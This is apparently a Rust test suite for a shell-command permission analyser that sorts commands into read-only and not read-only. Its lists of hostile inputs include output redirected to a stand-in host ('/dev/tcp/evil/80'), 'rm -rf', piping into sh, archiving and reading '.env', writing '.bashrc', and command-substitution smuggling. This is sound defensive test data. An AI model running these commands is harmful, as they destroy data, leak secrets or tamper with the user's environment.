//! What is read-only, what is read, and what is never let through.

use std::path::Path;

use proptest::prelude::*;

use crate::{ShellContext, ShellReading, analyse, top_level_parts};

fn reading(command: &str) -> ShellReading {
    analyse(command, &ShellContext { cwd: Path::new("/w"), home: Path::new("/h") })
}

/// Checks that a command is read-only and reads exactly the paths given.
#[track_caller]
fn check_reads(command: &str, paths: &[&str]) {
    let reading = reading(command);
    assert!(reading.is_read_only(), "{command}: {reading:?}");
    assert_eq!(reading.reads, paths, "{command}");
}

#[test]
fn commands_that_only_read() {
    let cases: &[(&str, &[&str])] = &[
        ("md5sum a.txt", &["a.txt"]),
        ("nproc", &[]),
        ("head -n 1 a.txt", &["a.txt"]),
        ("head -1 a.txt", &["a.txt"]),
        ("head -n1 -- -a.txt", &["-a.txt"]),
        ("grep -r x ..", &[".."]),
        ("grep -rn 'fn main' --include='*.rs'", &["."]),
        ("grep -e a -e b c d", &["c", "d"]),
        ("grep -f patterns c", &["c", "patterns"]),
        ("grep -A3 x f", &["f"]),
        ("echo 'a > b'", &[]),
        ("echo 'a\nb'", &[]),
        ("echo \"a > b; (c)\"", &[]),
        ("ls > /dev/null", &["."]),
        ("ls -la 2>&1 | head -5", &["."]),
        ("ls src 2>/dev/null; pwd", &["src"]),
        ("ls 2>/dev/null&&pwd", &["."]),
        ("cat a b && wc -l c || true", &["a", "b", "c"]),
        ("cat -", &[]),
        ("ls;", &["."]),
        ("'ls' \"-l\" s'r'c", &["src"]),
        ("sort -t, -k2 a.csv | uniq -c", &["a.csv"]),
        ("date +%Y-%m-%d", &[]),
        ("date -u -r a", &["a"]),
        ("stat --format=%s a", &["a"]),
        ("realpath --relative-to b a", &["a", "b"]),
        ("find . -name '*.rs' -type f -not -path './t/*' -newer x", &[".", "x"]),
        ("find src -maxdepth 2 -size -10k", &["src"]),
        ("git status", &["."]),
        ("git status -sb", &["."]),
        ("git log --oneline -5", &["."]),
        ("git diff HEAD -- src/a.rs", &[".", "HEAD", "src/a.rs"]),
        ("git show HEAD:.env", &[".", "HEAD:.env", ".env"]),
        ("git branch -a", &["."]),
        ("git branch --merged main", &[".", "main"]),
        ("git branch --list 'x*'", &[".", "x*"]),
        ("git rev-parse --abbrev-ref HEAD", &[".", "HEAD"]),
        ("tr a-z A-Z", &[]),
        ("which cargo", &[]),
        ("diff -u a b", &["a", "b"]),
    ];
    for (command, paths) in cases {
        check_reads(command, paths);
    }
}

#[test]
fn never_read_only() {
    for command in [
        // Cases of the permission corpus that must ask or deny.
        "git grep --open-files-in-pager=./bin/tool content",
        "chroot . ls",
        "git add a.txt",
        "cat $HOME/notes.txt",
        "ls <> a.txt",
        "(( $(touch z) ))",
        "echo $[ x='a[$(touch z)]', x ]",
        "touch /outside/n",
        "npm install",
        "PATH=./bin npm run build",
        "rmdir ~",
        "xargs touch",
        "rm -rf /w/*",
        "timeout 3 rmdir ~",
        "ls > x",
        "mkdir d",
        "to\\\nuch z",
        "tar cf x.tar .env",
        "rmdir {/,/usr}",
        "echo touch z | sh",
        "bash -c \"touch z\" --version",
        "cat < ../outside/file.txt",
        "echo \"unterminated",
        "echo hi | tee .bashrc",
        // Flags that write, run or follow.
        "sort -o out a",
        "sort -oout a",
        "sort --output=out a",
        "sort --outp out a",
        "sort --compress-program=./x a",
        "sort -T /tmp a",
        "sort --files0-from=x",
        "uniq a b",
        "date -s 12:00",
        "date 010203042026",
        "file -m x a",
        "file -C -m x",
        "md5sum -c sums",
        "grep -R x .",
        "grep -rR x .",
        "grep -e -R x",
        "wc --files0-from=x",
        "tail -f log",
        "du -L .",
        "diff -r a b",
        "find . -delete",
        "find . -exec rm x",
        "find . -fprint x",
        "find -L . -name x",
        "find . -name",
        "find . -ok rm x",
        "find '(' -delete",
        "git -c core.pager=x log",
        "git -C x status",
        "git --exec-path=x status",
        "git diff --output=x",
        "git diff --ext-diff",
        "git diff --no-index a b",
        "git log --textconv",
        "git log -Ofile",
        "git log -pOfile",
        "git branch new",
        "git branch -D old",
        "git branch -a new",
        "git branch -m a b",
        "git branch --merged main new",
        "git push",
        "git",
        // Outside the grammar.
        "",
        "   ",
        ";",
        "ls &&",
        "| ls",
        "ls & ",
        "ls |& cat",
        "ls >out",
        "ls >>/dev/null",
        "ls >/dev/nullx",
        "ls >&2",
        "ls 2>&12",
        "ls 12>/dev/null",
        "ls 1>/dev/null",
        "echo a2>/dev/null",
        "echo '2'>&1",
        "ls >/dev/tcp/evil/80",
        "A=b ls",
        "LANG=C ls",
        "! ls",
        "if true; then ls; fi",
        "{ ls; }",
        "(ls)",
        "cd src && ls",
        "/bin/ls",
        "./ls",
        "echo \"$(x)\"",
        "echo \"`x`\"",
        "echo \"a\\b\"",
        "ls # comment",
        "ls\tx",
        "ls\rx",
        "ls\u{a0}x",
        "cat é",
        "echo 'a\0b'",
        "eval ls",
        ". x",
        "env ls",
        "command ls",
    ] {
        assert!(!reading(command).is_read_only(), "{command:?} came out read-only");
    }
    assert!(!reading(&format!("echo {}", "a".repeat(10_000))).is_read_only());
    assert!(reading(&format!("echo {}", "a".repeat(9_000))).is_read_only());
}

#[test]
fn commands_are_shown_as_rules_see_them() {
    for (command, texts) in [
        ("'touch' z; to\"uc\"h 'a b'", &["touch z", "touch 'a b'"][..]),
        ("npm run build 2>&1 | tee log", &["npm run build", "tee log"]),
        // Not understood: the line, and everything in it that could be a command.
        ("to\\\nuch z", &["to\\\nuch z", "touch z"]),
        ("(ls)", &["(ls)", "ls"]),
        ("echo $(git push) `curl x`", &["echo $(git push) `curl x`", "echo", "git push", "curl x"]),
        ("if true; then rm x; fi", &["if true; then rm x; fi", "true", "rm x"]),
        ("A=1 'rm' x", &["A=1 'rm' x", "rm x"]),
    ] {
        let reading = reading(command);
        let shown: Vec<&str> = reading.commands.iter().map(|command| command.text.as_str()).collect();
        assert_eq!(shown, texts, "{command}");
    }
}

#[test]
fn parts_respect_quotes_and_brackets() {
    for (command, parts) in [
        ("a && b | c; d", &["a", "b", "c", "d"][..]),
        ("echo 'a;b' \"c|d\" \\; e", &["echo 'a;b' \"c|d\" \\; e"]),
        ("(a; b) || c", &["(a; b)", "c"]),
        ("x $(a; b) 2>&1 &> f\ny", &["x $(a; b) 2>&1 &> f", "y"]),
        ("", &[]),
    ] {
        assert_eq!(top_level_parts(command), parts, "{command}");
    }
}

/// Removes what single quotes protect, and the redirections that are allowed.
fn exposed(command: &str) -> String {
    let mut out = String::new();
    let mut in_double = false;
    let mut in_single = false;
    for c in command.chars() {
        match c {
            '\'' if !in_double => in_single = !in_single,
            '"' if !in_single => in_double = !in_double,
            _ if in_single => {}
            // Double quotes protect all but these.
            _ if in_double && !"$`\\\n".contains(c) => {}
            _ => out.push(c),
        }
    }
    out
}

proptest! {
    #[test]
    fn any_text_is_survived(command in any::<String>()) {
        reading(&command);
        top_level_parts(&command);
    }

    #[test]
    fn dangerous_characters_are_never_read_only(
        command in "(ls|cat|echo|find|git log|grep -r|;|&&|\\||'|\"|2>&1|>/dev/null| |a|\\.|-n|[$`<(){}*?~!#\n\\[\\]\\\\\t]){1,12}"
    ) {
        if exposed(&command).contains(|c| "$`<(){}*?[]~\\!#\n\t".contains(c)) {
            prop_assert!(!reading(&command).is_read_only(), "{command:?}");
        }
    }

    #[test]
    fn every_plain_operand_of_cat_is_reported(names in prop::collection::vec("[a-z./_]{1,9}", 1..5)) {
        let command = format!("cat {}", names.join(" "));
        prop_assert_eq!(reading(&command).reads, names);
    }
}
